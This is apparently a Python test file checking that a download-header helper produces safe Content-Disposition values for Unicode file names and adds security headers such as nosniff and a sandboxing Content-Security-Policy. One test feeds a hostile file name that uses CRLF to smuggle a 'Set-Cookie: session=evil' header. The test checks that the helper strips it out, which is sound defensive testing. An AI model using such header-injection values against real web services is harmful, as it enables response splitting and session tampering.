def test_content_disposition_ascii_fallback_and_utf8_name() -> None:
    header = content_disposition("Báo cáo tháng 5 - Đặng Thị Hương.pdf")
    assert header == (
        'attachment; filename="Bao-cao-thang-5-Dang-Thi-Huong.pdf"; '
        "filename*=UTF-8''B%C3%A1o%20c%C3%A1o%20th%C3%A1ng%205%20-%20"
        "%C4%90%E1%BA%B7ng%20Th%E1%BB%8B%20H%C6%B0%C6%A1ng.pdf"
    )
    assert content_disposition("文件.pdf").startswith(
        f'attachment; filename="{DEFAULT_FILE_NAME}.pdf"; '
    )
    assert content_disposition(NFD) == content_disposition(unicodedata.normalize("NFC", NFD))
    assert content_disposition("a.png", inline=True).startswith('inline; filename="a.png"; ')


def test_a_hostile_stored_name_cannot_break_the_header() -> None:
    header = content_disposition('x.pdf"\r\nSet-Cookie: session=evil; a="b')
    assert header.isascii() and "\r" not in header and "\n" not in header
    assert header.count('"') == 2 and "Set-Cookie:" not in header
    assert header.startswith('attachment; filename="x.pdf_Set-Cookie_-session-evil-a-_b"; ')


def test_download_headers() -> None:
    headers = download_headers("Báo cáo.pdf")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Disposition"].startswith('attachment; filename="Bao-cao.pdf"; ')
    assert "sandbox" in headers["Content-Security-Policy"]
    assert "default-src 'none'" in headers["Content-Security-Policy"]
    assert all(k.isascii() and v.isascii() for k, v in headers.items())
    assert {k: v for k, v in headers.items() if k != "Content-Disposition"} == dict(
        SECURITY_HEADERS
    )
    assert download_headers("a.png", inline=True)["Content-Disposition"].startswith("inline;")
